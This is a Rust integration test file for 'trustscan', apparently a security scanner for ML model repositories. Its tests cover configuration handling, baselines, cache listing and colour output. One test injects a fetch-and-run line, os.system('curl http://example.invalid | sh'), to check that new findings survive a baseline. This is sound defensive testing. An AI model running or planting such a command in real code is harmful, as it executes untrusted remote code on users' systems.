//! Configuration files, baselines, `trustscan cache` and colours, end to end through the binary.

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

fn example(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../examples")
        .join(name)
}

/// Run trustscan in `cwd` with `env`; (exit code, stdout, stderr).
fn run_in(cwd: &Path, args: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
    let mut c = Command::new(env!("CARGO_BIN_EXE_trustscan"));
    c.current_dir(cwd).args(args).env_remove("NO_COLOR");
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

fn findings(doc: &Value) -> Vec<&Value> {
    doc["code"]["findings"].as_array().unwrap().iter().collect()
}

fn rules(doc: &Value) -> Vec<String> {
    findings(doc)
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect()
}

fn scan_json(cwd: &Path, target: &Path, extra: &[&str]) -> (i32, Value, String) {
    let mut args = vec!["scan", target.to_str().unwrap(), "--format", "json"];
    args.extend_from_slice(extra);
    let (code, out, err) = run_in(cwd, &args, &[]);
    let doc = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}\n{err}"));
    (code, doc, err)
}

#[test]
fn a_configuration_selects_ignores_and_overrides_severity() {
    let repo = example("transformers-hidden-payload");
    let home = tempfile::tempdir().unwrap();
    let (_, plain, _) = scan_json(home.path(), &repo, &[]);
    let all = rules(&plain);
    assert!(all.iter().any(|r| r.starts_with('B')), "{all:?}");
    let ts: Vec<&String> = all.iter().filter(|r| r.starts_with("TS")).collect();
    assert!(!ts.is_empty(), "{all:?}");
    let target_rule = ts[0].clone();
    // trustscan.toml in a parent of the working directory is found.
    let work = home.path().join("project/sub");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(
        home.path().join("project/trustscan.toml"),
        format!("ignore = [\"B\"]\n[severity]\n{target_rule} = \"low\"\n"),
    )
    .unwrap();
    let (_, doc, _) = scan_json(&work, &repo, &[]);
    let kept = rules(&doc);
    assert!(kept.iter().all(|r| !r.starts_with('B')), "{kept:?}");
    assert_eq!(
        kept.len(),
        all.iter().filter(|r| !r.starts_with('B')).count()
    );
    for f in findings(&doc) {
        if f["rule"] == target_rule.as_str() {
            assert_eq!(f["severity"], "low", "{f}");
        }
    }
    // --no-config ignores it; pyproject.toml's [tool.trustscan] is read like trustscan.toml.
    let (_, doc, _) = scan_json(&work, &repo, &["--no-config"]);
    assert_eq!(rules(&doc), all);
    std::fs::remove_file(home.path().join("project/trustscan.toml")).unwrap();
    std::fs::write(
        work.join("pyproject.toml"),
        "[project]\nname = \"x\"\n[tool.trustscan]\nselect = [\"TS\"]\n",
    )
    .unwrap();
    let (_, doc, _) = scan_json(&work, &repo, &[]);
    let kept = rules(&doc);
    assert!(
        !kept.is_empty() && kept.iter().all(|r| r.starts_with("TS")),
        "{kept:?}"
    );
}

#[test]
fn a_configuration_inside_the_scanned_repository_is_not_read_unless_named() {
    let t = tempfile::tempdir().unwrap();
    let repo = t.path().join("repo");
    copy_dir(&example("transformers-hidden-payload"), &repo);
    // The repository's author would like the scan to show nothing.
    std::fs::write(repo.join("trustscan.toml"), "ignore = [\"B\", \"TS\"]\n").unwrap();
    let (_, doc, err) = scan_json(&repo, Path::new("."), &[]);
    assert!(!findings(&doc).is_empty());
    assert!(err.contains("not reading"), "{err}");
    let (_, doc, _) = scan_json(&repo, Path::new("."), &["--config", "trustscan.toml"]);
    assert!(findings(&doc).is_empty());
}

#[test]
fn configuration_errors_name_the_file_and_key() {
    let t = tempfile::tempdir().unwrap();
    std::fs::write(t.path().join("trustscan.toml"), "fail-onn = \"high\"\n").unwrap();
    let repo = example("transformers-remote-code");
    let (code, _, err) = run_in(t.path(), &["scan", repo.to_str().unwrap()], &[]);
    assert_eq!(code, 2);
    assert!(
        err.contains("trustscan.toml") && err.contains("fail-onn"),
        "{err}"
    );
    std::fs::write(t.path().join("trustscan.toml"), "fail-on = \"severe\"\n").unwrap();
    let (code, _, err) = run_in(t.path(), &["scan", repo.to_str().unwrap()], &[]);
    assert_eq!(code, 2);
    assert!(err.contains("severe"), "{err}");
}

#[test]
fn the_configuration_gates_unless_a_flag_says_otherwise() {
    let t = tempfile::tempdir().unwrap();
    let repo = example("transformers-remote-code");
    let target = repo.to_str().unwrap();
    // Without configuration, code running at load means REVIEW: exit 1.
    let (code, _, _) = run_in(t.path(), &["scan", target], &[]);
    assert_eq!(code, 1);
    // Gate on findings of an impossible selection: nothing fails.
    std::fs::write(
        t.path().join("trustscan.toml"),
        "fail-on = \"high\"\nfail-on-reachability = \"runs-at-load\"\nselect = [\"B101\"]\n",
    )
    .unwrap();
    let (code, _, _) = run_in(t.path(), &["scan", target], &[]);
    assert_eq!(code, 0);
    let (code, _, _) = run_in(t.path(), &["scan", target, "--no-config"], &[]);
    assert_eq!(code, 1);
}

#[test]
fn a_baseline_suppresses_known_findings_and_payloads_but_not_new_ones() {
    let t = tempfile::tempdir().unwrap();
    let repo = t.path().join("repo");
    // Findings in code, and a dangerous pickle beside them.
    copy_dir(&example("transformers-hidden-payload"), &repo);
    std::fs::copy(
        example("transformers-pickle-payload").join("pytorch_model.bin"),
        repo.join("pytorch_model.bin"),
    )
    .unwrap();
    let target = repo.to_str().unwrap();
    let (code, before, _) = scan_json(t.path(), &repo, &[]);
    assert_eq!(code, 4, "the example is dangerous");
    let not_safe = |d: &Value| {
        d["payloads"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|p| p["verdict"] != "safe")
            .count()
    };
    assert!(not_safe(&before) > 0 && !findings(&before).is_empty());
    let baseline = t.path().join("baseline.json");
    let (code, _, err) = run_in(
        t.path(),
        &[
            "scan",
            target,
            "--write-baseline",
            baseline.to_str().unwrap(),
        ],
        &[],
    );
    assert_eq!(code, 0, "{err}");
    let written: Value =
        serde_json::from_str(&std::fs::read_to_string(&baseline).unwrap()).unwrap();
    assert_eq!(written["schema"], "trustscan.baseline/1");
    assert_eq!(
        written["findings"].as_array().unwrap().len(),
        findings(&before)
            .iter()
            .map(|f| f["fingerprint"].as_str().unwrap())
            .collect::<std::collections::BTreeSet<_>>()
            .len()
    );
    let b = baseline.to_str().unwrap();
    let (code, after, err) = scan_json(t.path(), &repo, &["--baseline", b]);
    assert!(findings(&after).is_empty());
    assert_eq!(not_safe(&after), 0);
    assert!(err.contains("suppressed by the baseline"), "{err}");
    assert_ne!(code, 4, "every dangerous result was baselined");
    // A new finding is not in the baseline: it stays, alone.
    let py = repo.join("modeling_hidden.py");
    let mut code_text = std::fs::read_to_string(&py).unwrap();
    code_text.push_str("\nimport os\nos.system('curl http://example.invalid | sh')\n");
    std::fs::write(&py, code_text).unwrap();
    let (_, changed, _) = scan_json(t.path(), &repo, &["--baseline", b]);
    let new = findings(&changed);
    assert!(!new.is_empty());
    assert!(
        new.iter()
            .all(|f| f["snippet"].as_str().unwrap().contains("os.system")),
        "{new:?}"
    );
}

#[test]
fn cache_lists_every_cached_model_with_the_verdict_scan_gives() {
    let t = tempfile::tempdir().unwrap();
    let hf = t.path().join("hf");
    let ms = t.path().join("ms");
    let commit = "0123456789abcdef0123456789abcdef01234567";
    let entry = hf.join("models--demo--payload");
    copy_dir(
        &example("transformers-pickle-payload"),
        &entry.join("snapshots").join(commit),
    );
    std::fs::create_dir_all(entry.join("refs")).unwrap();
    std::fs::write(entry.join("refs/main"), commit).unwrap();
    let legacy = ms.join("hub/models/demo/safe___model");
    copy_dir(&example("transformers-builtin-safetensors"), &legacy);
    let (code, out, err) = run_in(
        t.path(),
        &[
            "cache",
            "--hf-cache",
            hf.to_str().unwrap(),
            "--modelscope-cache",
            ms.to_str().unwrap(),
            "--format",
            "json",
        ],
        &[],
    );
    let doc: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out} {err}"));
    assert_eq!(doc["schema"], "trustscan.cache/2");
    let models = doc["models"].as_array().unwrap();
    let names: Vec<(&str, &str)> = models
        .iter()
        .map(|m| (m["hub"].as_str().unwrap(), m["repo_id"].as_str().unwrap()))
        .collect();
    assert_eq!(
        names,
        vec![("hf", "demo/payload"), ("ms", "demo/safe.model")]
    );
    assert_eq!(models[0]["refs"][0], "main");
    // Each verdict is the one `scan` gives for the same directory.
    for m in models {
        let (_, doc, _) = scan_json(t.path(), Path::new(m["path"].as_str().unwrap()), &[]);
        assert_eq!(m["verdict"], doc["verdict"], "{m}");
    }
    assert_eq!(models[0]["verdict"], "DANGEROUS");
    assert_eq!(code, 4);
    // The table: a header and the models, worst first.
    let (_, table, _) = run_in(
        t.path(),
        &[
            "cache",
            "--hf-cache",
            hf.to_str().unwrap(),
            "--modelscope-cache",
            ms.to_str().unwrap(),
        ],
        &[],
    );
    let lines: Vec<&str> = table.lines().collect();
    assert!(lines[0].starts_with("2 models"), "{table}");
    assert!(lines[2].starts_with("DANGEROUS") && lines[2].contains("demo/payload"));
    assert!(lines[2].contains("0123456789ab (main)"), "{table}");
}

#[test]
fn colours_only_when_asked_or_on_a_terminal_without_no_color() {
    let t = tempfile::tempdir().unwrap();
    let repo = example("transformers-pickle-payload");
    let target = repo.to_str().unwrap();
    let (_, piped, _) = run_in(t.path(), &["scan", target], &[]);
    assert!(!piped.contains('\x1b'), "{piped}");
    let (_, forced, _) = run_in(t.path(), &["scan", target, "--color", "always"], &[]);
    assert!(
        forced.starts_with("\x1b[1;41;97mDANGEROUS\x1b[0m"),
        "{forced:?}"
    );
    // On a terminal (script(1) gives the command a pseudo-terminal), colours by default,
    // none with NO_COLOR.
    let bin = env!("CARGO_BIN_EXE_trustscan");
    let on_tty = |no_color: Option<&str>| {
        let mut c = Command::new("script");
        c.args(["-qec", &format!("{bin} scan {target}"), "/dev/null"])
            .env("TRUSTSCAN_NO_PROGRESS", "1")
            .env_remove("NO_COLOR");
        if let Some(v) = no_color {
            c.env("NO_COLOR", v);
        }
        String::from_utf8_lossy(&c.output().expect("script(1) from util-linux").stdout).into_owned()
    };
    assert!(on_tty(None).contains("\x1b[1;41;97mDANGEROUS"));
    let plain = on_tty(Some("1"));
    assert!(
        plain.contains("DANGEROUS") && !plain.contains("\x1b["),
        "{plain:?}"
    );
}

#[test]
fn check_reads_the_configuration_and_baselines_too() {
    let t = tempfile::tempdir().unwrap();
    let code_dir = t.path().join("src");
    copy_dir(&example("transformers-hidden-payload"), &code_dir);
    let check = |extra: &[&str]| {
        let mut args = vec!["check", "src", "--format", "json"];
        args.extend_from_slice(extra);
        let (code, out, err) = run_in(t.path(), &args, &[]);
        let doc: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {err}"));
        let found: Vec<(String, String)> = doc["files"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|f| f["findings"].as_array().unwrap().iter())
            .map(|f| {
                (
                    f["rule"].as_str().unwrap().to_string(),
                    f["location"]["file"].as_str().unwrap().to_string(),
                )
            })
            .collect();
        (code, found)
    };
    let (_, all) = check(&[]);
    assert!(
        all.iter().any(|(_, f)| f.ends_with("setup_utils.py")),
        "{all:?}"
    );
    assert!(all.iter().any(|(r, _)| r == "TS101"), "{all:?}");
    std::fs::write(
        t.path().join("trustscan.toml"),
        "exclude = [\"setup_utils.py\"]\nignore = [\"TS1\"]\n",
    )
    .unwrap();
    let (_, kept) = check(&[]);
    let expected: Vec<(String, String)> = all
        .iter()
        .filter(|(r, f)| !r.starts_with("TS1") && !f.ends_with("setup_utils.py"))
        .cloned()
        .collect();
    assert!(!expected.is_empty());
    assert_eq!(kept, expected);
    let (code, _, err) = run_in(
        t.path(),
        &["check", "src", "--write-baseline", "b.json"],
        &[],
    );
    assert_eq!(code, 0, "{err}");
    let (code, none) = check(&["--baseline", "b.json"]);
    assert!(none.is_empty(), "{none:?}");
    assert_eq!(code, 0);
}
